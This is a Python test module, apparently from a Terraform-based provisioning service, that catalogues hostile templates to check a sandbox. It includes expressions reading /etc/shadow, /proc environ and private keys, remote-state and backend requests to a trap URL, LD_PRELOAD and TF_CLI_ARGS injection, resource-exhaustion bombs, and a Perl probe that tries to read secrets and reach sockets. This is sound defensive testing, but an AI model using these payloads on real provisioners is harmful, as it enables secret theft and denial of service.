"""The catalogue of attacks that a hostile template can try."""

import json
import os
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from provisioning.engine.base import ParameterValue

from .traps import ENVIRONMENT, Traps

MIRRORED = "probe.example.com/acme/probe"  # a provider in the operator's cache
# ruff: noqa: E501 (a table)
CODER = 'terraform {\n  required_providers {\n    coder = { source = "coder/coder" }\n  }\n}\n'
PLATFORM = "linux_amd64" if os.uname().machine == "x86_64" else "linux_arm64"


@dataclass(frozen=True)
class Expression:
    """An expression that reads something. It is closed if its value is ``denied`` or one of ``harmless``."""

    name: str
    code: Callable[[Traps], str]
    harmless: tuple[str, ...] = ()


@dataclass(frozen=True)
class Attempt:
    """A hostile template.

    ``write`` writes it into its folder. ``rejection`` must be in the error of its plan: "" accepts any error, None also a
    plan that succeeds. ``harm`` describes other damage than connections, secrets and leftovers, "" for none.
    """

    name: str
    how: str
    write: Callable[[Path, Traps], None]
    rejection: str | None = None
    values: tuple[ParameterValue, ...] = ()
    harm: Callable[[Path, Traps], str] = lambda _root, _traps: ""
    is_bomb: bool = False
    needs_provider: bool = False
    settings: dict[str, object] = field(default_factory=dict)


def _file(path: str) -> Callable[[Traps], str]:
    return lambda _: f'file("{path}")'


EXPRESSIONS = (
    Expression('file("/etc/passwd")', _file("/etc/passwd")),
    Expression('filebase64("/etc/shadow")', lambda _: 'filebase64("/etc/shadow")'),
    Expression('file("/proc/self/environ")', _file("/proc/self/environ")),
    Expression('file("/proc/1/environ")', _file("/proc/1/environ")),
    Expression("the daemon's /proc/PID/environ", lambda _: f'file("/proc/{os.getpid()}/environ")'),
    Expression("the daemon's /proc/PID/cmdline", lambda _: f'file("/proc/{os.getpid()}/cmdline")'),
    Expression("/proc/self/root", _file("/proc/self/root/etc/passwd")),
    Expression("/proc/self/cwd", lambda traps: f'file("/proc/self/cwd{_up(traps)}")'),
    Expression("/proc/self/maps", _file("/proc/self/maps")),
    Expression("/proc/net/tcp", _file("/proc/net/tcp")),
    Expression("/sys of the machine", lambda _: 'join(",", fileset("/sys/class", "*"))', ("",)),
    Expression("templatefile", lambda _: 'templatefile("/etc/hostname", {})'),
    Expression("filesha256", lambda _: 'filesha256("/etc/hostname")'),
    Expression("fileset of /etc", lambda _: 'join(",", fileset("/etc", "*"))', ("", "ld.so.cache")),
    Expression("fileset of a home", lambda _: 'join(",", fileset("/root", "*"))', ("",)),
    Expression("private keys", lambda _: 'join(",", fileset("/etc/ssl/private", "*"))', ("",)),
    Expression("names of the network", _file("/etc/hosts")),
    Expression("pathexpand", lambda _: 'file(pathexpand("~root/.bashrc"))'),
    Expression("pathexpand of home", lambda _: 'file("${pathexpand("~")}/../../../../etc/passwd")'),
    Expression("a secret file by its path", lambda traps: f'file("{traps.secret_file}")'),
    Expression("the same by a relative path", lambda traps: f'file("{_up(traps).removeprefix("/")}")'),
    Expression("the same through abspath", lambda traps: f'file(abspath("{_up(traps).removeprefix("/")}"))'),
    Expression("the same through path.cwd", lambda traps: f'file("${{path.cwd}}{_up(traps)}")'),
    Expression("the same through a link in the archive", lambda _: 'file("${path.module}/link")'),
    Expression("a folder through a link", lambda _: 'join(",", fileset(path.module, "folder/*"))', ("",)),
    Expression("a unix socket as a file", lambda traps: f'file("{traps.socket_path}")'),
    Expression("another job's values", lambda traps: f'file("{traps.other_job}/values.tfvars.json")'),
    Expression(
        "all jobs' folders",
        lambda traps: f'join(",", fileset("{traps.scratch}", "**/values.tfvars.json"))',
        ("",),
    ),
    # Landlock hides the content of a file but not its existence.
    Expression("fileexists", lambda traps: f'fileexists("{traps.secret_file}")', ("true", "false")),
    Expression("devices", lambda _: 'filebase64("/dev/mem")'),
)


def _up(traps: Traps) -> str:
    """Return the path from a template's folder (``jobs/NUMBER/template``) to the secret file."""
    return f"/../../../{traps.secret_file.relative_to(traps.folder)}"


def write_expressions(root: Path, traps: Traps) -> None:
    """Write a template with the value of each expression in the metadata of a resource."""
    items = "".join(
        f'  item {{\n    key   = "{number}"\n    value = try(tostring({one.code(traps)}), "denied")\n  }}\n'
        for number, one in enumerate(EXPRESSIONS)
    )
    (root / "main.tf").write_text(
        f'{CODER}resource "terraform_data" "x" {{}}\n'
        f'resource "coder_metadata" "m" {{\n  resource_id = terraform_data.x.id\n{items}}}\n'
    )
    (root / "link").symlink_to(traps.secret_file)
    (root / "folder").symlink_to(traps.secret_file.parent)


# ---------------------------------------------------------------------- templates
def _main(content: str | Callable[[Traps], str], name: str = "main.tf") -> Callable[[Path, Traps], None]:
    def write(root: Path, traps: Traps) -> None:
        (root / name).write_text(content if isinstance(content, str) else content(traps))
        if name != "main.tf":
            (root / "main.tf").write_text('output "x" {\n  value = 1\n}\n')

    return write


def _state(config: Callable[[Traps], str]) -> Callable[[Path, Traps], None]:
    return _main(lambda traps: f'data "terraform_remote_state" "x" {{\n{config(traps)}\n}}\n')


def _http_state(traps: Traps) -> str:
    return f'  backend = "http"\n  config = {{ address = "{traps.url}/state" }}'


def _in_module(root: Path, traps: Traps) -> None:
    (root / "main.tf").write_text('module "m" {\n  source = "./m"\n}\n')
    (root / "m").mkdir()
    (root / "m/main.tf").write_text(f'data "terraform_remote_state" "x" {{\n{_http_state(traps)}\n}}\n')


def _in_json(traps: Traps) -> str:
    return json.dumps(
        {"data": {"terraform_remote_state": {"x": {"backend": "http", "config": {"address": traps.url}}}}}
    )


def _program(path: Path) -> None:
    """Write a provider that creates a file in its working directory when it runs."""
    path.parent.mkdir(parents=True)
    path.write_text("#!/bin/sh\necho ran > ran\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


REQUIRES = (
    'terraform {\n  required_providers {\n    evil = { source = "localhost:9/acme/evil", version = "1.0.0" }\n  }\n}\n'
    'resource "evil_x" "x" {}\n'
)


def _shipped_data(root: Path, _traps: Traps) -> None:
    (root / "main.tf").write_text(REQUIRES)
    _program(root / f".terraform/providers/localhost:9/acme/evil/1.0.0/{PLATFORM}/terraform-provider-evil_v1.0.0")
    (root / ".terraform.lock.hcl").write_text('provider "localhost:9/acme/evil" {\n  version = "1.0.0"\n}\n')


def _shipped_plugins(root: Path, _traps: Traps) -> None:
    (root / "main.tf").write_text(REQUIRES)
    _program(root / f"terraform.d/plugins/localhost:9/acme/evil/1.0.0/{PLATFORM}/terraform-provider-evil_v1.0.0")


def _program_ran(root: Path, _traps: Traps) -> str:
    return "its program ran" if (root / "ran").exists() else ""


def _shipped_configuration(root: Path, traps: Traps) -> None:
    (root / "main.tf").write_text(REQUIRES)
    text = f'provider_installation {{\n  network_mirror {{\n    url = "{traps.url}/"\n  }}\n}}\n'
    for name in (".terraformrc", "terraform.rc", ".tofurc"):
        (root / name).write_text(text)


def write_probe(root: Path, _traps: Traps) -> None:
    (root / "main.tf").write_text(
        f'terraform {{\n  required_providers {{\n    probe = {{ source = "{MIRRORED}" }}\n  }}\n}}\n'
        'resource "probe_x" "x" {}\n'
    )


def _parameter(name: str, value: str) -> tuple[ParameterValue, ...]:
    return (ParameterValue(name, value, destination="environment_variable"),)


def _environment(name: str, value: str) -> Attempt:
    return Attempt(
        f"{name} as a parameter",
        "an environment variable that would change what is run",
        _main('output "x" {\n  value = 1\n}\n'),
        rejection="cannot be an environment variable",
        values=_parameter(name, value),
    )


_BACKEND = "a template must not have a backend or cloud block"
_STATE = "a template must not read terraform_remote_state"

TEMPLATES = (
    Attempt("remote state, local", "reads another state file", _state(
        lambda traps: f'  backend = "local"\n  config = {{ path = "{traps.secret_file}" }}'), _STATE),
    Attempt("remote state, http", "a request from the plan", _state(_http_state), _STATE),
    Attempt("remote state in a module", "below the root module", _in_module, _STATE),
    Attempt("remote state in JSON", "main.tf.json", _main(_in_json, "more.tf.json"), _STATE),
    Attempt("remote state in an override", "x_override.tf", _main(
        lambda traps: f'data "terraform_remote_state" "x" {{\n{_http_state(traps)}\n}}\n', "x_override.tf"), _STATE),
    Attempt("remote state in a check", "check block", _main(
        lambda traps: f'check "c" {{\n  data "terraform_remote_state" "x" {{\n{_http_state(traps)}\n  }}\n'
        '  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n'), _STATE),
    Attempt("backend http", "state kept by the attacker", _main(
        lambda traps: f'terraform {{\n  backend "http" {{\n    address = "{traps.url}"\n  }}\n}}\n'), _BACKEND),
    Attempt("backend local", "state written to the host", _main(
        lambda traps: f'terraform {{\n  backend "local" {{\n    path = "{traps.folder}/host/state"\n  }}\n}}\n'), _BACKEND),
    Attempt("backend in an override", "x_override.tf", _main(
        'terraform {\n  backend "local" {}\n}\n', "x_override.tf"), _BACKEND),
    Attempt("cloud", "plans elsewhere", _main(
        'terraform {\n  cloud {\n    organization = "x"\n  }\n}\n'), _BACKEND),
    Attempt("a file that only OpenTofu reads", "main.tofu", _main('terraform {}\n', "main.tofu"), "configuration must be"),
    Attempt("module over http", "source on loopback", _main(
        lambda traps: f'module "m" {{\n  source = "{traps.url}/m.zip"\n}}\n')),
    Attempt("module from git", "source on loopback", _main(
        lambda traps: f'module "m" {{\n  source = "git::{traps.url}/m.git"\n}}\n')),
    Attempt("module of a registry on loopback", "discovery request", _main(
        lambda traps: f'module "m" {{\n  source = "localhost:{traps.port}/a/b/c"\n}}\n')),
    Attempt("module of the machine", "source is a folder of the host", _main(
        lambda traps: f'module "m" {{\n  source = "{traps.secret_file.parent}"\n}}\n'), "is outside the template"),
    Attempt("module above the template", "source ../../host", _main(
        'module "m" {\n  source = "../../../host"\n}\n'), "is outside the template"),
    Attempt("provider of a registry on loopback", "discovery request", _main(
        lambda traps: f'terraform {{\n  required_providers {{\n    e = {{ source = "localhost:{traps.port}/a/e" }}\n  }}\n}}\n'
        'resource "e_x" "x" {}\n')),
    Attempt("a provider in .terraform", "with a lock file, no init", _shipped_data, harm=_program_ran),
    Attempt("a provider in terraform.d", "found by init", _shipped_plugins, harm=_program_ran,
            settings={"network": True, "registries": ("localhost:9",)}),
    Attempt("a CLI configuration", "a network mirror on loopback", _shipped_configuration, harm=_program_ran,
            settings={"network": True, "registries": ("localhost:9",)}),
    Attempt("local-exec", "a provisioner", _main(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "echo ran > ran"\n  }\n}\n'), harm=_program_ran),
    Attempt("data external", "a program as a data source", _main(
        'data "external" "x" {\n  program = ["sh", "-c", "echo ran > ran"]\n}\n'), harm=_program_ran),
    *(_environment(name, value) for name, value in (
        ("TF_CLI_ARGS", "-destroy"), ("TF_CLI_ARGS_plan", "-state=/etc/passwd"), ("TF_CLI_CONFIG_FILE", "rc"),
        ("TF_REATTACH_PROVIDERS", "{}"), ("TF_LOG_PATH", "/tmp/log"), ("TF_PLUGIN_CACHE_DIR", "/tmp"),
        ("LD_PRELOAD", "x.so"), ("PATH", "."), ("HOME", "/root"), ("GODEBUG", "x"))),
)  # fmt: skip


# ---------------------------------------------------------------------- bombs
def _value(expression: str) -> Callable[[Path, Traps], None]:
    return _main(f'resource "terraform_data" "x" {{\n  input = {expression}\n}}\n')


def _deep_modules(root: Path, _traps: Traps) -> None:
    folder = root
    for _ in range(150):
        (folder / "main.tf").write_text('module "m" {\n  source = "./m"\n}\n')
        folder /= "m"
        folder.mkdir()
    (folder / "main.tf").write_text('output "x" {\n  value = 1\n}\n')


def _wide_modules(root: Path, _traps: Traps) -> None:
    for number in range(12):
        folder = root if number == 0 else root / f"m{number}"
        folder.mkdir(exist_ok=True)
        source = f"./m{number + 1}" if number == 0 else f"../m{number + 1}"
        calls = "".join(f'module "{name}" {{\n  source = "{source}"\n}}\n' for name in "ab")
        (folder / "main.tf").write_text(calls)
    (root / "m12").mkdir()
    (root / "m12/main.tf").write_text("")


_LOOP = "[for a in range(1024) : [for b in range(1024) : [for c in range(1024) : max(a, b, c)]]]"

BOMBS = tuple(
    Attempt(name, how, write, rejection=rejection, is_bomb=True)
    for name, how, write, rejection in (
        ("count", "5,000,000 instances", _main('resource "terraform_data" "x" {\n  count = 5000000\n}\n'), ""),
        ("for within for", "a billion times", _value(f"length({_LOOP})"), ""),
        ("setproduct", "a billion combinations",
         _value("length(setproduct(range(1000), range(1000), range(1000)))"), ""),
        ("strings", "forty strings of 100 MB", _value('length(join("", [for i in range(40) : format("%100000000s", i)]))'), ""),
        ("bcrypt", "a cost of 31", _value('bcrypt("x", 31)'), None),
        ("a huge value", "200 MB in the plan", _value('format("%200000000s", "x")'), ""),
        ("a huge log", "60,000 lines of 1 kB", _main(
            'resource "terraform_data" "x" {\n  for_each = toset([for i in setproduct(range(250), range(240)) : format("%0500d-%0500d", i[0], i[1])])\n}\n'), ""),
        ("modules within modules", "150 levels", _deep_modules, None),
        ("modules that double", "2^12 calls", _wide_modules, "more than 500 module calls"),
        ("brackets", "100,000 levels", _value("[" * 100_000 + "]" * 100_000), ""),
        ("a regular expression", "nested repeats",
         _value('regexall("(a*)*(a*)*(a*)*(a{0,900}){1,1}$", format("%1000000s", "a"))'), None),
    )
)  # fmt: skip

# ---------------------------------------------------------------------- an installed provider is code
PROBE_NAMES = {
    "passwd": "reads /etc/passwd",
    "secret": "reads a secret file",
    "job": "reads another job's values",
    "environ": "looks for secrets in its environment",
    "parent": "reads the environment of the daemon",
    "tcp": "connects to loopback",
    "unix": "connects to a unix socket by path",
    "abstract": "connects to an abstract unix socket",
    "write": "writes outside of its folder",
    "signal": "sends the daemon a signal",
    "file": "writes a file over the limit",
}  # fmt: skip


def probe_program(traps: Traps) -> str:
    """Return a provider that tries everything once and writes the results, by name, to the file ``probed``."""
    return f"""#!/usr/bin/perl
use strict; use warnings; use Socket;
sub reads {{ open(my $file, '<', $_[0]) or return 0; return defined(<$file>) }}
sub reaches {{ socket(my $socket, $_[0], SOCK_STREAM, 0) or return 0; return connect($socket, $_[1]) }}
my %tries = (
  passwd => sub {{ reads('/etc/passwd') }},
  secret => sub {{ reads('{traps.secret_file}') }},
  job => sub {{ reads('{traps.other_job}/values.tfvars.json') }},
  environ => sub {{ exists $ENV{{{ENVIRONMENT}}} }},
  parent => sub {{ reads('/proc/{os.getpid()}/environ') }},
  tcp => sub {{ reaches(AF_INET, pack_sockaddr_in({traps.port}, inet_aton('127.0.0.1'))) }},
  unix => sub {{ reaches(AF_UNIX, pack_sockaddr_un('{traps.socket_path}')) }},
  abstract => sub {{ reaches(AF_UNIX, pack_sockaddr_un("\\0{traps.abstract_name}")) }},
  write => sub {{ open(my $f, '>', '{traps.folder}/host/written') }},
  signal => sub {{ kill(0, {os.getpid()}) }},
  file => sub {{ local $SIG{{XFSZ}} = 'IGNORE'; open(my $f, '>', 'big') or return 0; truncate($f, 1 << 30) }},
);
for my $name (sort keys %tries) {{
  my $worked = eval {{ $tries{{$name}}->() }} ? 1 : 0;
  open(my $out, '>>', 'probed') or next; print $out "$name $worked\\n"; close($out);
}}
unlink 'big';
exit 1;
"""
